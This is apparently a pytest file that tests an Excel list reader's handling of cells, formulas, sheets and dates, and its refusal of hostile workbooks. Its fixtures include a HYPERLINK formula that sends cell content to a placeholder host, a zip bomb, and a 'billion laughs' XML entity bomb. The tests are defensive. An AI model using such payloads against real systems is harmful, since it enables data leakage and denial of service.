"""Excel files: cells as text, sheets, formulas that nobody works out, and files that are no gift."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime, time

import pytest
from tests.core.lists.making import about, cells_of, refusal_of, rows_of, with_part, workbook

from perdure.core.kernel.bounded import BoundExceeded
from perdure.core.lists.api import Limits, ListRefused, open_list


def test_cells_come_as_people_see_them():
    content = workbook(
        [
            ["name", "day", "at", "sum", "share", "yes", "n"],
            [
                "x",
                date(2026, 3, 4),
                datetime.combine(date(2026, 3, 4), time(9, 30)),
                0.1 + 0.2,
                1e-7,
                True,
                12,
            ],
            ["y", None, time(9, 30), 5.0, 1234567.25, False, None],
        ]
    )
    assert cells_of(content)[0] == (
        "x",
        "2026-03-04",
        "2026-03-04 09:30:00",
        "0.3",
        "0.0000001",
        "TRUE",
        "12",
    )
    assert cells_of(content)[1][:6] == ("y", "", "09:30:00", "5", "1234567.25", "FALSE")


def test_a_formula_is_shown_as_it_is_written_and_told():
    content = workbook([["name", "sum"], ["x", "=1+1"], ["y", '=HYPERLINK("http://bad/"&A1)']])
    assert cells_of(content) == [("x", "=1+1"), ("y", '=HYPERLINK("http://bad/"&A1)')]
    assert "2 cells hold formulas" in " ".join(about(content).told)


def test_the_first_sheet_with_a_table_is_read_and_the_others_are_named():
    content = workbook(
        [["About this file"]], Cases=[["name", "n"], ["x", 1], ["y", 2]], More=[["a", "b"], [1, 2]]
    )
    found = about(content)
    assert (found.sheet, found.sheets) == ("Cases", ("List", "Cases", "More"))
    assert about(content, sheet="More").columns == ("a", "b")
    assert refusal_of(content, sheet="None").next_step == "Its sheets are: List, Cases, More."


def test_rows_know_their_place_in_the_sheet():
    content = workbook([["Title"], [], ["name", "n", "m"], ["x", 1, 2], [], ["y", 3, 4]])
    with open_list(content) as listed:
        assert [(row.line, row.cells[0]) for row in listed.rows()] == [(4, "x"), (6, "y")]


def test_the_name_of_the_file_does_not_matter_but_is_told():
    content = workbook([["name", "n"], ["x", 1]])
    found = about(content, name="list.csv")
    assert found.kind == "xlsx"
    assert "an Excel file" in found.told[0]
    assert about(b"a,b\n1,2\n", name="list.xlsx").kind == "csv"


def test_a_sheet_that_lies_about_its_size_is_read_by_its_rows():
    content = workbook([["name", "n"], ["x", 1]])
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml")
    lying = sheet.replace(b'ref="A1:B2"', b'ref="A1:XFD1048576"')
    assert lying != sheet
    assert cells_of(with_part(content, "xl/worksheets/sheet1.xml", lying)) == [("x", "1")]


def test_a_packed_bomb_is_not_opened():
    content = workbook([["name", "n"], ["x", 1]])
    bomb = with_part(content, "xl/sharedStrings.xml", b"<sst>" + b"<si><t>a</t></si>" * 20_000_000)
    assert len(bomb) < 4 << 20
    refused = refusal_of(bomb)
    assert refused.code == "lists.zip-bomb"
    assert "MB" in refused.what


def test_a_bomb_of_entities_does_not_go_off():
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    cell = b'<c t="inlineStr"><is><t>&j;</t></is></c>'
    sheet = laughs + b"]><worksheet><sheetData><row>" + cell + b"</row></sheetData></worksheet>"
    content = with_part(workbook([["name"], ["x"]]), "xl/worksheets/sheet1.xml", sheet)
    with pytest.raises((ListRefused, BoundExceeded)):
        open_list(content, limits=Limits(memory_mb=600, seconds=30))


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"])
def test_a_damaged_workbook_is_a_sentence(part):
    content = with_part(workbook([["name"], ["x"]]), part, b"<not xml")
    assert refusal_of(content).code == "lists.damaged"


def test_a_workbook_that_breaks_off_is_a_sentence():
    content = workbook([["name", "n"], ["x", 1]])
    assert refusal_of(content[: len(content) // 2]).code == "lists.damaged"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "lists.old-excel"),
        (b"%PDF-1.7\n", "lists.not-a-list"),
        (b"<!DOCTYPE html><table><tr><td>1</table>", "lists.not-a-list"),
        (b"\x89PNG\r\n\x1a\n", "lists.not-a-list"),
        (bytes(range(256)) * 50, "lists.not-a-list"),
        (b"", "lists.empty"),
        (b"\n\n\n", "lists.empty"),
        (b"name,cost\n", "lists.empty"),
    ],
)
def test_what_is_not_a_list_is_a_sentence(content, code):
    assert refusal_of(content).code == code


def test_other_packed_files_are_named():
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as packed:
        packed.writestr("content.xml", "<a/>")
    assert "OpenDocument" in refusal_of(content.getvalue()).what


def sheet_of(rows: str) -> bytes:
    """A workbook whose sheet holds just this XML."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<worksheet xmlns="{space}"><sheetData>{rows}</sheetData></worksheet>'
    return with_part(workbook([["name"], ["x"]]), "xl/worksheets/sheet1.xml", sheet.encode())


def test_every_kind_of_cell_that_excel_writes():
    content = sheet_of(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>k</t></is></c><c r="B1" t="str"><v>value</v></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><r><t>two </t></r><r><t>runs</t></r>'
        '<rPh sb="0" eb="1"><t>x</t></rPh></is></c>'
        '<c r="B2"><v>1.5E3</v></c></row>'
        '<row r="3"><c r="A3" t="e"><v>#REF!</v></c><c r="B3" t="b"><v>1</v></c></row>'
        '<row r="4"><c r="A4" t="d"><v>2026-03-04</v></c><c r="B4"><v>007</v></c></row>'
        '<row r="6"><c r="B6"><f>SUM(B2:B4)</f><v>8</v></c></row>'
        '<row r="7"><c t="inlineStr"><is><t>no place</t></is></c><c><v>-0.25</v></c></row>'
    )
    assert [(row.line, row.cells) for row in rows_of(content, header=True)] == [
        (2, ("two runs", "1500")),
        (3, ("#REF!", "TRUE")),
        (4, ("2026-03-04", "7")),
        (6, ("", "=SUM(B2:B4)")),
        (7, ("no place", "-0.25")),
    ]


def test_a_formula_that_cells_share_is_written_out_for_each():
    content = sheet_of(
        '<row r="1"><c r="A1" t="str"><v>a</v></c><c r="B1" t="str"><v>b</v></c></row>'
        '<row r="2"><c r="A2"><v>1</v></c>'
        '<c r="B2"><f t="shared" ref="B2:B3" si="0">A2*2</f><v>2</v></c></row>'
        '<row r="3"><c r="A3"><v>2</v></c><c r="B3"><f t="shared" si="0"/><v>4</v></c></row>'
    )
    assert cells_of(content, header=True) == [("1", "=A2*2"), ("2", "=A3*2")]


def test_a_sheet_that_declares_anything_is_read_by_the_careful_parser():
    good = sheet_of('<row r="1"><c r="A1" t="str"><v>a</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>')
    with zipfile.ZipFile(io.BytesIO(good)) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml")
    commented = with_part(good, "xl/worksheets/sheet1.xml", b"<!-- hello -->" + sheet)
    declared = with_part(good, "xl/worksheets/sheet1.xml", b'<!DOCTYPE worksheet [<!ENTITY a "b">]>' + sheet)
    assert cells_of(commented, header=True) == [("1",)]
    assert refusal_of(declared, header=True).code == "lists.damaged"


def test_a_cell_beyond_the_last_column_is_a_sentence():
    assert refusal_of(sheet_of('<row r="1"><c r="ZZZ1" t="str"><v>a</v></c></row>')).code == "lists.damaged"


def test_days_are_read_from_both_calendars_of_excel():
    content = workbook([["day"], [date(2026, 3, 4)], [date(1904, 1, 2)]])
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        book = packed.read("xl/workbook.xml")
    later = with_part(
        content, "xl/workbook.xml", book.replace(b"<workbookPr/>", b'<workbookPr date1904="1"/>')
    )
    assert cells_of(content, header=True)[0] == ("2026-03-04",)
    assert cells_of(later, header=True)[0] == ("2030-03-05",)
